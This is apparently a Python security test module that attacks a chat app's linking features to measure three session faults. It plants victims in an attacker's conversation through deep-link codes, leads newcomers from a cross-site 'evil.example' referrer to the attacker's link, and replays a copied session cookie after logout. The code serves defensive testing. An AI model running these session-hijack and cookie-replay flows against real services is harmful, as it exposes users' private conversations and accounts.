"""Faults 1, 8, 9: whose conversation somebody ends up in."""

import re
from collections.abc import AsyncGenerator

from tests.attack.harness.browsing import Browser, browser
from tests.attack.harness.chatting import arrives, owner_of
from tests.attack.harness.target import Found, Target

VICTIMS = 10
_CODE = re.compile(r"/join ([0-9A-Za-z-]{6,})|/join/([0-9A-Za-z_-]{6,})|start=([0-9A-Za-z_-]{6,})")
_LINK = re.compile(r"https?://[^\s\"'<>]+/(?:s|join)/[0-9A-Za-z_-]+")
_ACTION = re.compile(r'<form[^>]*action="([^"]+)"')
_LEAVING = re.compile(r"log-?out|sign-?out|leave|end", re.I)
ATTACKER = "攻击者有限公司"


async def deep_link(target: Target) -> AsyncGenerator[Found, None]:
    """Ten people with answers tap one deep link each; bounded by their number."""
    async with browser(target.url) as attacker:
        await attacker.arrives(ATTACKER)
        victims = [target.bot_api.person(5000 + number) for number in range(VICTIMS)]
        for victim in victims:
            await arrives(victim, "受害者有限公司")
        yield {}
        moved = offered = 0
        for victim in victims:
            code = await _code_of(attacker)
            offered += code is not None
            before = await owner_of(target, victim)
            await victim.says(f"/start {code}")
            await victim.sees()
            moved += await owner_of(target, victim) != before
        yield {"codes": offered, "assessments moved by a tap": f"{moved} of {VICTIMS}"}


async def _code_of(owner: Browser) -> str | None:
    """A code for another device, out of the settings."""
    await owner.type("/settings")
    if "link" not in owner.choices:
        return None
    await owner.press("link")
    found = _CODE.findall(owner.page)
    return next(filter(None, found[-1]), None) if found else None


async def _link_of(owner: Browser) -> str | None:
    """The link that opens the conversation elsewhere; made by a button where one is needed."""
    await owner.get("/link")
    if not (found := _LINK.findall(owner.page)):
        for action in _ACTION.findall(owner.page):
            if "link" in action or "join" in action:
                await owner.post(action, owner.hidden(action))
                found = _LINK.findall(owner.page)
    return found[-1] if found else None


async def followed(target: Target) -> AsyncGenerator[Found, None]:
    """Ten newcomers are led to the attacker's link by another site; bounded by their number."""
    async with browser(target.url) as attacker:
        await attacker.arrives(ATTACKER)
        yield {}
        logged_in = 0
        for number in range(VICTIMS):
            link = await _link_of(attacker)
            await attacker.get("/")
            if link is None:
                continue
            path = "/" + link.split("/", 3)[3]
            foreign = {"Sec-Fetch-Site": "cross-site", "Referer": "https://evil.example/"}
            async with browser(target.url, f"127.0.2.{number + 1}") as newcomer:
                await newcomer.get(path, headers=foreign)
                logged_in += ATTACKER in (await newcomer.get("/")).text
        yield {"newcomers in the attacker's conversation": f"{logged_in} of {VICTIMS}"}


async def lasting(target: Target) -> AsyncGenerator[Found, None]:
    """A secret seen once is used after its owner has left and come back; four requests."""
    async with browser(target.url) as owner, browser(target.url, "127.0.2.77") as thief:
        await owner.arrives("受害者有限公司")
        yield {}
        link = await _link_of(owner) or ""
        secret = owner.cookies.get("chat", "")
        await owner.get("/")
        stolen = {"Cookie": f"chat={secret}"}
        pages = [owner.page]
        for path in ("/link", "/logout", "/devices"):
            await owner.get(path)
            pages.append(owner.page)
        leaving = _leaving(pages)
        if leaving:
            owner.page = leaving[1]
            await owner.post(leaving[0], owner.hidden(leaving[0]))
        still = await thief.get("/", headers=stolen)
        yield {
            "link holds the lasting secret": "yes" if secret and secret in link else "no",
            "a way to log out": leaving[0] if leaving else "none",
            "stolen secret good after it": "yes" if 'id="log"' in still.text else "no",
        }


def _leaving(pages: list[str]) -> tuple[str, str] | None:
    for page in pages:
        for action in _ACTION.findall(page):
            if _LEAVING.search(action):
                return action, page
    return None
